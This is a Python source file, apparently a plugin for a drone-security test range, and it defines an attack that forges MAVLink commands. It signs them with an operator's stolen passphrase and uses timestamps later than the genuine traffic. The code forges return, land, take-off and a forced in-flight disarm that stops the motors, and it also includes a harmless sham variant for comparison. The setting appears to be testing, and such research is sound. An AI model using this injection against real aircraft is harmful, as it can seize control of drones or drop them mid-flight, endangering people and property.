"""Forged commands on a signed link, signed with the key of a passphrase that the attacker has or guesses."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final, Literal

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.compromised_sender import read_timestamp
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.signing import (
    LAST_TIMESTAMP,
    UNIT_NS,
    range_passphrase,
    secret_from_passphrase,
    sign_frame,
    signing_timestamp,
)
from skyrange.core.time import Time


@dataclass(slots=True)
class LaterTimestamps:
    """The latest timestamp that was seen, and the next one."""

    initial: int
    """Timestamp at time 0 by the attacker's clock."""
    latest: int = 0
    """The latest timestamp that passed or was taken."""

    def see(self, frame: bytes) -> None:
        """Learn from a frame that passes."""
        self.latest = max(self.latest, read_timestamp(frame) or 0)

    def take(self, now: Time) -> int:
        """The timestamp of the next forged frame."""
        self.latest = min(max(self.latest + 1, self.initial + now // UNIT_NS), LAST_TIMESTAMP)
        return self.latest


_FORCE: Final = 21196.0
"""Param 2 of MAV_CMD_COMPONENT_ARM_DISARM: disarm in flight too."""
_TAKE_OFF_M: Final = 20.0
"""Height of a take-off above home, in metres."""
ORDERS: Final = {
    "return": (sky.Order(mav.MAV_CMD_NAV_RETURN_TO_LAUNCH),),
    "land": (sky.Order(mav.MAV_CMD_NAV_LAND),),
    "disarm": (sky.Order(mav.MAV_CMD_COMPONENT_ARM_DISARM, (0.0, _FORCE)),),
    "take_off": (
        sky.mode_order(sky.copter_mode("GUIDED")),
        sky.Order(mav.MAV_CMD_COMPONENT_ARM_DISARM, (1.0,)),
        sky.Order(mav.MAV_CMD_NAV_TAKEOFF, (0.0, 0.0, 0.0, 0.0, 0.0, 0.0, _TAKE_OFF_M)),
    ),
}
"""The commands of each order."""
_NOTHING: Final = sky.Order(mav.MAV_CMD_REQUEST_MESSAGE, (float(mav.MAVLINK_MSG_ID_HEARTBEAT),))


@sky.attack(
    "signing.stolen_key",
    technique="T0859",
    persists="mode",
    effect="a signed link obeys the attacker, because signatures prove the key and not the sender",
    knowledge="the operator's passphrase, which all its aircraft share; with a guessed one the frames are refused",
    position="by place: near the link with a radio, in the operator's network, or on board; it need not hold up frames",
    equipment="a computer that sends MAVLink, and the key, from a stolen computer or aircraft of the operator",
    budget="a frame of 57 bytes per order",
    load="the sham: the same frames with REQUEST_MESSAGE, which asks for a heartbeat",
    content="the same orders signed with another passphrase",
    placement="the same orders on the link of another aircraft of the operator",
)
class SignedOrders(sky.InjectionOnLinks):
    """Gives orders signed with the stolen key of the operator.

    They are in the name of the ground station, with a timestamp that is later than all that passed. The sham
    requests a heartbeat, with the same key and as many bytes.
    """

    passphrase: str | None = sky.param(
        "Passphrase of the attacker's key; default: that of the operator, skyrange/SEED/OPERATOR, so the key is "
        "stolen. Any other one is a wrong key, and its frames are refused, unless signing.setup_key has set it.",
        default=None,
        min_length=1,
    )
    order: Literal["return", "land", "disarm", "take_off"] = sky.param(
        "Order to the aircraft: MAV_CMD_NAV_RETURN_TO_LAUNCH; MAV_CMD_NAV_LAND; MAV_CMD_COMPONENT_ARM_DISARM by "
        "force, which stops the motors in flight; or take_off: GUIDED, armed and up to 20 m, from the ground.",
        default="return",
    )
    every_s: sky.Number = sky.param("Time between two orders, in seconds.", default=1.0, ge=0.1, le=3600)
    link_id: sky.Whole = sky.param(
        "Link id in the signatures. With that of the ground station, 0, its next frames may be refused, because the "
        "forged timestamp is later.",
        default=7,
        ge=0,
        le=255,
    )
    secret: bytes
    stamps: LaterTimestamps

    def prepare(self, context: sky.AttackContext) -> None:
        self.stamps = LaterTimestamps(signing_timestamp(context.epoch.unix_ns))

    def begin(self) -> None:
        super().begin()
        operator = sky.operator_of(self.link.partition(":")[2])
        self.secret = secret_from_passphrase(self.passphrase or range_passphrase(self.chance.seed, operator))

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        self.stamps.see(frame.payload)
        return ()

    def send(self, now: sky.Time) -> sky.Verdicts:
        return [
            self.inject(sign_frame(self.packer.pack(message), self.secret, self.link_id, self.stamps.take(now)))
            for message in ((_NOTHING if self.sham else order).message(self.target) for order in ORDERS[self.order])
        ]
